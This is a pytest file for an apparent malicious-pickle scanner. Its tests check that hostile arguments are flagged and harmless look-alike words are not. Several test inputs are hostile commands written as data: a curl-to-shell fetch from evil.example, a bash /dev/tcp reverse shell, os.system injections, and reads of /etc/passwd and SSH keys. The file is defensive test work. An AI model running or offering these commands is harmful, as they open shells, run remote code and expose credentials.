from __future__ import annotations

import marshal

import pytest
from tests.formats.assemble import EMPTY_DICT, EMPTY_LIST, data, pickle, run, text, tup

from modelward.formats.pickle.evidence import suspicious
from modelward.formats.pickle.values import Blob, Value
from modelward.formats.source import BytesSource

CODE = marshal.dumps(compile("import os\nos.getcwd()", "<string>", "exec"))


def value(part: bytes) -> Value:
    return run(pickle(part))[0].value


@pytest.mark.parametrize(
    "argument",
    [
        "curl http://evil.example/x | sh",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "/bin/sh -c 'id'",
        "powershell -enc AAAA",
        "rm -rf /tmp/x",
        "touch /tmp/pwned",
        "echo pwned > out.txt",
        "whoami",
        "calc.exe",
        "__import__('os').system('id')",
        "import os; os.system('id')",
        "exec('import os; os.system(\"id\")')",
        "/etc/passwd",
        "../../.ssh/id_rsa",
        "https://evil.example/x.sh",
        "file:///etc/hosts",
    ],
)
def test_what_only_an_attack_gives_a_function(argument: str) -> None:
    assert suspicious(value(tup(text(argument))), function=True)
    assert suspicious(value(tup(EMPTY_LIST + text(argument) + b"a")), function=True)


@pytest.mark.parametrize(
    "argument",
    [
        "",
        "id",
        "ls",
        "cat food",
        "open source",
        "a/b/c",
        "x | y",
        "import taxes",
        "https",
        "echo",
        "path/to/file.txt",
        "sleep",
        "eval",
        "model.eval()",
        "a > b",
        "(1 + 2)",
    ],
)
def test_near_miss_words_and_names(argument: str) -> None:
    assert suspicious(value(tup(text(argument))), function=True) is None


def test_compiled_code_given_to_a_function() -> None:
    assert suspicious(value(tup(data(CODE))), function=True) == "it is given compiled Python code"
    assert suspicious(value(tup(data(b"c" + bytes(100)))), function=True) is None


def test_a_class_may_hold_any_text_but_a_command_that_harms() -> None:
    assert suspicious(value(tup(text("https://model.example"))), function=False) is None
    assert suspicious(value(tup(text("curl http://evil.example/x | sh"))), function=False)


def test_vocabularies_are_data() -> None:
    words = EMPTY_LIST + b"(" + b"".join(text("curl http://evil.example/x | sh") for _ in range(20)) + b"e"
    assert suspicious(value(tup(words)), function=True) is None
    deep = tup(tup(tup(tup(text("whoami")))))
    assert suspicious(value(deep), function=True) is None
    assert suspicious(value(EMPTY_DICT), function=True) is None


def test_long_text_is_read_from_the_file() -> None:
    long = ("#" * 5000 + "\nimport os\nos.system('curl http://evil.example/x | sh')").encode()
    assert suspicious(value(tup(text(long.decode()))), function=True)
    beyond = Blob("str", BytesSource(b""), 0, 1 << 20)
    assert suspicious(beyond, function=True) is None
